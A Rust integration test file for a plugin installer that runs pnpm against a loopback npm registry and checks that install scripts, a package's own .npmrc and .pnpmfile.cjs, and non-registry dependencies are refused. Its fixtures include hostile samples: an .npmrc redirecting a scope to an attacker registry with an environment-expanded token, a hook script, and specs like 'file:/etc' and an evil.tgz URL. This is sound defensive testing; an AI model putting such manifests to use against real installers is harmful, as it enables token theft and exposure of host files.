//! Dependencies installed by the real pnpm, pointed at an npm registry the test serves on loopback.

use plughub_install::{DependencyInstaller, ExtractLimits, InstallError, fetch_from_npm};
use plughub_npm::NpmClient;
use plughub_testkit::http::LoopbackNpm;
use plughub_testkit::tarball::package;
use serde_json::json;
use std::path::PathBuf;

/// pnpm is found on the PATH or installed once for all tests here (as plughub does in its data folder);
/// one test at a time may install it.
async fn installer(store: PathBuf, registry: &str) -> DependencyInstaller {
    static TOOLS: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());
    let _one_at_a_time = TOOLS.lock().await;
    let tools = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("tools");
    DependencyInstaller::locate(&tools, store, registry)
        .await
        .unwrap()
}

fn publish(npm: &LoopbackNpm, manifest: serde_json::Value, files: &[(&str, &str)]) {
    npm.publish_version(manifest.clone(), package(&manifest, files), None);
}

#[tokio::test]
async fn dependencies_install_without_scripts_into_one_shared_store() {
    let npm = LoopbackNpm::start().await;
    let work = tempfile::tempdir().unwrap();
    let marker = work.path().join("postinstall-ran");
    publish(
        &npm,
        json!({ "name": "@acme/dep-a", "version": "1.2.0", "type": "module", "main": "index.js",
                "scripts": { "postinstall": format!("node -e \"require('fs').writeFileSync('{}', 'x')\"", marker.display()) } }),
        &[("index.js", "export const greet = (n) => `hello ${n}`;")],
    );
    publish(
        &npm,
        json!({ "name": "@acme/dep-b", "version": "2.0.0", "main": "index.js" }),
        &[("index.js", "module.exports = 2;")],
    );
    for plugin in ["@acme/plugin-one", "@acme/plugin-two"] {
        publish(
            &npm,
            json!({ "name": plugin, "version": "1.0.0", "type": "module", "main": "dist/index.js",
                    "dependencies": { "@acme/dep-a": "^1.0.0", "@acme/dep-b": "2.0.0" },
                    "devDependencies": { "@acme/never-published": "1.0.0" } }),
            &[(
                "dist/index.js",
                "import { greet } from '@acme/dep-a'; export default { name: 'p', hello: greet('plugin') };",
            )],
        );
    }
    let store = work.path().join("store");
    let installer = installer(store.clone(), &npm.url).await;
    let client = NpmClient::new(&npm.url);
    let mut dirs = Vec::new();
    for plugin in ["@acme/plugin-one", "@acme/plugin-two"] {
        let dest = work.path().join(plugin.replace('/', "__"));
        let fetched = fetch_from_npm(
            &client,
            plugin,
            None,
            None,
            &dest,
            &ExtractLimits::default(),
        )
        .await
        .unwrap();
        let report = installer.install(&fetched.dir).await.unwrap();
        assert!(report.packages >= 1, "{report:?}");
        dirs.push(fetched.dir);
    }
    assert!(!marker.exists(), "an install script ran");
    // The plugin loads with its dependency, under pnpm's layout.
    let out = std::process::Command::new("node")
        .current_dir(&dirs[0])
        .args([
            "--input-type=module",
            "-e",
            "const m = await import('./dist/index.js'); console.log(m.default.hello);",
        ])
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        "hello plugin",
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // One copy on disk: both plugins' copies of a dependency are the same file in the store. (A package
    // with install scripts, like dep-a, is copied instead, so that a build could not alter the store.)
    #[cfg(unix)]
    {
        use std::os::unix::fs::MetadataExt;
        let inode = |d: &PathBuf| {
            std::fs::metadata(d.join("node_modules/@acme/dep-b/index.js"))
                .unwrap()
                .ino()
        };
        assert_eq!(inode(&dirs[0]), inode(&dirs[1]));
    }
    assert!(store.exists());
}

#[tokio::test]
async fn a_dependency_that_does_not_exist_is_named() {
    let npm = LoopbackNpm::start().await;
    let work = tempfile::tempdir().unwrap();
    // As @elizaos/plugin-solana@1.2.6 does today with @elizaos/service-interfaces@latest.
    publish(
        &npm,
        json!({ "name": "@acme/plugin-broken", "version": "1.2.6", "dependencies": { "@acme/service-interfaces": "latest" } }),
        &[("index.js", "export default {}")],
    );
    let installer = installer(work.path().join("store"), &npm.url).await;
    let dest = work.path().join("pkg");
    let fetched = fetch_from_npm(
        &NpmClient::new(&npm.url),
        "@acme/plugin-broken",
        None,
        None,
        &dest,
        &ExtractLimits::default(),
    )
    .await
    .unwrap();
    let err = installer.install(&fetched.dir).await.unwrap_err();
    assert!(matches!(err, InstallError::Dependencies(_)));
    assert!(
        err.to_string().contains("@acme/service-interfaces"),
        "{err}"
    );
}

/// A published package is untrusted: its own `.npmrc` (a scope sent elsewhere, with an `${ENV}` token
/// pnpm would expand) and `.pnpmfile.cjs` (a hook run outside any sandbox) are not obeyed.
#[tokio::test]
async fn a_package_s_own_package_manager_files_are_not_obeyed() {
    let npm = LoopbackNpm::start().await;
    let attacker = LoopbackNpm::start().await;
    let work = tempfile::tempdir().unwrap();
    let marker = work.path().join("pnpmfile-ran");
    let dep = json!({ "name": "@evil/dep", "version": "1.0.0", "main": "index.js" });
    publish(&npm, dep.clone(), &[("index.js", "module.exports = 1;")]);
    publish(&attacker, dep, &[("index.js", "module.exports = 2;")]);
    let host = attacker.url.trim_start_matches("http:");
    let npmrc = format!(
        "@evil:registry={}\n{host}:_authToken=${{HOME}}\n",
        attacker.url
    );
    let pnpmfile = format!(
        "require('fs').writeFileSync({:?}, 'x');\nmodule.exports = {{ hooks: {{}} }};\n",
        marker.display().to_string()
    );
    publish(
        &npm,
        json!({ "name": "@acme/plugin-rc", "version": "1.0.0", "main": "index.js",
                "dependencies": { "@evil/dep": "1.0.0" } }),
        &[
            ("index.js", "export default {}"),
            (".npmrc", &npmrc),
            (".pnpmfile.cjs", &pnpmfile),
            ("pnpm-workspace.yaml", "packages: []\n"),
        ],
    );
    let installer = installer(work.path().join("store"), &npm.url)
        .await
        .with_npmrc(format!("registry={}\n", npm.url));
    let debug = format!("{installer:?}");
    assert!(
        debug.contains("<redacted>") && !debug.contains("registry="),
        "{debug}"
    );
    let fetched = fetch_from_npm(
        &NpmClient::new(&npm.url),
        "@acme/plugin-rc",
        None,
        None,
        &work.path().join("pkg"),
        &ExtractLimits::default(),
    )
    .await
    .unwrap();
    assert!(fetched.dir.join(".npmrc").exists());
    let report = installer.install(&fetched.dir).await.unwrap();
    assert_eq!(
        report.removed_config,
        [".npmrc", ".pnpmfile.cjs", "pnpm-workspace.yaml"]
    );
    assert!(
        attacker.paths().is_empty(),
        "the package's .npmrc was obeyed: {:?}",
        attacker.paths()
    );
    assert!(!marker.exists(), "the package's .pnpmfile.cjs ran");
    assert!(!fetched.dir.join(".npmrc").exists());
    let code =
        std::fs::read_to_string(fetched.dir.join("node_modules/@evil/dep/index.js")).unwrap();
    assert!(code.contains("= 1"), "{code}");
    // The store is pruned with the same cleared environment.
    installer.prune().await.unwrap();
    assert!(fetched.dir.join("node_modules/@evil/dep/index.js").exists());
}

/// As `@elizaos/plugin-browser` 1.0.3 against `@elizaos/core`: the plugin pins zod 3 for its own
/// development (`resolutions`), core declares zod 4 and uses what only 4 has. Each gets the major it
/// declares, as npm gives them; a `workspace:` reference becomes the published version (pins), and the
/// plugin's undeclared import of a package only a dependency declares still resolves.
#[tokio::test]
async fn each_package_gets_the_major_it_declares_and_workspace_references_install() {
    let npm = LoopbackNpm::start().await;
    let work = tempfile::tempdir().unwrap();
    for (version, api) in [
        ("3.25.23", "export const v = 3;"),
        ("4.1.0", "export const v = 4;"),
    ] {
        publish(
            &npm,
            json!({ "name": "@acme/zod", "version": version, "type": "module", "main": "index.js" }),
            &[("index.js", api)],
        );
    }
    publish(
        &npm,
        json!({ "name": "@acme/uuid", "version": "11.0.3", "type": "module", "main": "index.js" }),
        &[("index.js", "export const uuid = () => 'u-1';")],
    );
    publish(
        &npm,
        json!({ "name": "@acme/core", "version": "1.7.2", "type": "module", "main": "index.js",
                "dependencies": { "@acme/zod": "^4.0.0", "@acme/uuid": "^11.0.0" } }),
        &[(
            "index.js",
            "import { v } from '@acme/zod'; export const coreZod = v;",
        )],
    );
    let plugin = json!({ "name": "@acme/plugin-browser", "version": "1.0.3", "type": "module",
        "main": "index.js",
        "dependencies": { "@acme/core": "workspace:^", "@acme/zod": "3.25.23" },
        "resolutions": { "@acme/zod": "3.25.23" }, "overrides": { "@acme/zod": "3.25.23" } });
    publish(
        &npm,
        plugin.clone(),
        &[(
            "index.js",
            // @acme/uuid is declared by core only (as zod is for plugin-bootstrap): it resolves through
            // the hoisted tree, as under npm's flat layout.
            "import { coreZod } from '@acme/core'; import { v } from '@acme/zod'; import { uuid } from '@acme/uuid'; console.log(`${coreZod} ${v} ${uuid()}`);",
        )],
    );
    let client = NpmClient::new(&npm.url);
    let installer = installer(work.path().join("store"), &npm.url).await;
    let dest = work.path().join("pkg");
    let fetched = fetch_from_npm(
        &client,
        "@acme/plugin-browser",
        None,
        None,
        &dest,
        &ExtractLimits::default(),
    )
    .await
    .unwrap();
    let published = fetched.resolved.as_ref().unwrap().published.clone();
    let pins = plughub_install::pins(
        &client,
        "@acme/plugin-browser",
        &plugin,
        published.as_deref(),
    )
    .await
    .unwrap();
    assert_eq!(
        pins.iter()
            .map(|p| (p.name.as_str(), p.to.as_str()))
            .collect::<Vec<_>>(),
        [("@acme/core", "^1.7.2")]
    );
    installer
        .install_without(&fetched.dir, &[], &pins)
        .await
        .unwrap();
    let out = std::process::Command::new("node")
        .current_dir(&fetched.dir)
        .args(["index.js"])
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        "4 3 u-1",
        "core gets zod 4, the plugin zod 3, an undeclared import resolves: {}",
        String::from_utf8_lossy(&out.stderr)
    );

    // A workspace reference to a package the registry does not have fails, naming it.
    let orphan = json!({ "name": "@acme/plugin-orphan", "version": "1.0.0",
        "dependencies": { "@acme/private-lib": "workspace:*" } });
    let err = plughub_install::pins(&client, "@acme/plugin-orphan", &orphan, None)
        .await
        .unwrap_err();
    assert!(
        matches!(err, InstallError::WorkspaceDependency { .. })
            && err.to_string().contains("@acme/private-lib@workspace:*"),
        "{err}"
    );
}

/// A dependency from anywhere but the registry is refused before anything is fetched from it, whether the
/// plugin names it or a package of its tree does: a tarball URL, a git URL and a `file:` path (which would
/// copy the host's files into a folder the plugin reads). The URLs point at a loopback listener that must
/// see no connection. An `npm:` alias of a registry package is a registry dependency and installs, as does
/// a tilde range.
#[tokio::test]
async fn dependencies_from_anywhere_but_the_registry_are_refused() {
    let npm = LoopbackNpm::start().await;
    let work = tempfile::tempdir().unwrap();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let elsewhere = format!("127.0.0.1:{}", listener.local_addr().unwrap().port());
    publish(
        &npm,
        json!({ "name": "@acme/dep-b", "version": "2.0.0", "main": "index.js" }),
        &[("index.js", "module.exports = 2;")],
    );
    publish(
        &npm,
        json!({ "name": "@acme/middle", "version": "1.0.0", "main": "index.js",
                "dependencies": { "left-pad": format!("git+http://{elsewhere}/left-pad.git") } }),
        &[("index.js", "module.exports = 1;")],
    );
    let cases = [
        (
            "@acme/plugin-tarball",
            json!({ "@acme/evil": format!("http://{elsewhere}/evil.tgz") }),
            "@acme/evil",
        ),
        (
            "@acme/plugin-tree",
            json!({ "@acme/middle": "1.0.0" }),
            "left-pad",
        ),
        (
            "@acme/plugin-path",
            json!({ "@acme/secrets": "file:/etc" }),
            "@acme/secrets",
        ),
        (
            "@acme/plugin-shorthand",
            json!({ "@acme/gh": "acme/gh#main" }),
            "@acme/gh",
        ),
        // npm reads a spec starting with a dot as a folder: here, the folder of every installed package.
        (
            "@acme/plugin-parent",
            json!({ "@acme/up": ".." }),
            "@acme/up",
        ),
        (
            "@acme/plugin-file",
            json!({ "@acme/tgz": "evil.tgz" }),
            "@acme/tgz",
        ),
    ];
    for (plugin, dependencies, _) in &cases {
        publish(
            &npm,
            json!({ "name": plugin, "version": "1.0.0", "main": "index.js", "dependencies": dependencies }),
            &[("index.js", "module.exports = {};")],
        );
    }
    publish(
        &npm,
        json!({ "name": "@acme/plugin-alias", "version": "1.0.0", "main": "index.js",
                "dependencies": { "two": "npm:@acme/dep-b@^2.0.0", "@acme/dep-b": "~2.0.0" } }),
        &[("index.js", "module.exports = require('two');")],
    );
    let installer = installer(work.path().join("store"), &npm.url).await;
    let client = NpmClient::new(&npm.url);
    let fetch = |plugin: &'static str| {
        let dest = work.path().join(plugin.replace('/', "__"));
        let client = &client;
        async move {
            fetch_from_npm(client, plugin, None, None, &dest, &ExtractLimits::default())
                .await
                .unwrap()
        }
    };
    for (plugin, _, named) in cases {
        let fetched = fetch(plugin).await;
        let err = installer
            .install(&fetched.dir)
            .await
            .unwrap_err()
            .to_string();
        assert!(
            err.contains(named) && err.contains("from the registry only"),
            "{plugin}: {err}"
        );
        assert!(
            !fetched.dir.join("node_modules").join(named).exists(),
            "{plugin}: {named} was installed"
        );
    }
    let fetched = fetch("@acme/plugin-alias").await;
    installer.install(&fetched.dir).await.unwrap();
    assert!(fetched.dir.join("node_modules/two/index.js").exists());
    assert!(
        matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "the installer connected to a host that is not the registry"
    );
}

/// A package.json plughub rewrites before pnpm runs (development fields dropped, ranges pinned) keeps its
/// fields in their order and the conditions of its `exports` as listed: Node tries them in that order,
/// and `@elizaos/plugin-coding-agent` 0.1.0-next.1 lists `bun`, `import`, then a `default` that names a
/// TypeScript source it does not ship. Sorted, `default` came first and Node could not load it.
#[tokio::test]
async fn a_rewritten_manifest_keeps_the_order_of_its_exports() {
    let npm = LoopbackNpm::start().await;
    let work = tempfile::tempdir().unwrap();
    let manifest = r#"{
  "name": "@acme/plugin-conditions",
  "version": "1.0.0",
  "type": "module",
  "main": "dist/index.js",
  "exports": {
    "./package.json": "./package.json",
    ".": {
      "bun": "./src/index.ts",
      "import": { "types": "./dist/index.d.ts", "default": "./dist/index.js" },
      "default": "./src/index.ts"
    }
  },
  "scripts": { "build": "tsc" },
  "devDependencies": { "typescript": "5" }
}"#;
    // The tarball holds the manifest's text as written (not a re-serialised, sorted copy).
    use plughub_testkit::tarball::{Entry, file, tgz};
    let tarball = tgz(&[
        Entry::Dir {
            path: "package/".into(),
        },
        file("package/package.json", manifest),
        file(
            "package/dist/index.js",
            "export default { name: 'conditions' };",
        ),
    ]);
    npm.publish_version(serde_json::from_str(manifest).unwrap(), tarball, None);
    let installer = installer(work.path().join("store"), &npm.url).await;
    let dest = work.path().join("pkg");
    let fetched = fetch_from_npm(
        &NpmClient::new(&npm.url),
        "@acme/plugin-conditions",
        None,
        None,
        &dest,
        &ExtractLimits::default(),
    )
    .await
    .unwrap();
    installer.install(&fetched.dir).await.unwrap();
    let written = std::fs::read_to_string(fetched.dir.join("package.json")).unwrap();
    assert!(!written.contains("devDependencies"), "{written}");
    let at = |needle: &str| {
        written
            .find(needle)
            .unwrap_or_else(|| panic!("{needle}: {written}"))
    };
    assert!(at("\"name\"") < at("\"exports\""), "{written}");
    assert!(at("\"bun\"") < at("\"import\"") && at("\"import\"") < at("\"default\": \"./src"));
    // Node, importing the package by name, takes the first condition that applies: `import`.
    let consumer = work.path().join("consumer");
    std::fs::create_dir_all(consumer.join("node_modules/@acme")).unwrap();
    std::os::unix::fs::symlink(
        &fetched.dir,
        consumer.join("node_modules/@acme/plugin-conditions"),
    )
    .unwrap();
    let out = std::process::Command::new("node")
        .current_dir(&consumer)
        .args([
            "--input-type=module",
            "-e",
            "const m = await import('@acme/plugin-conditions'); console.log(m.default.name);",
        ])
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        "conditions",
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}
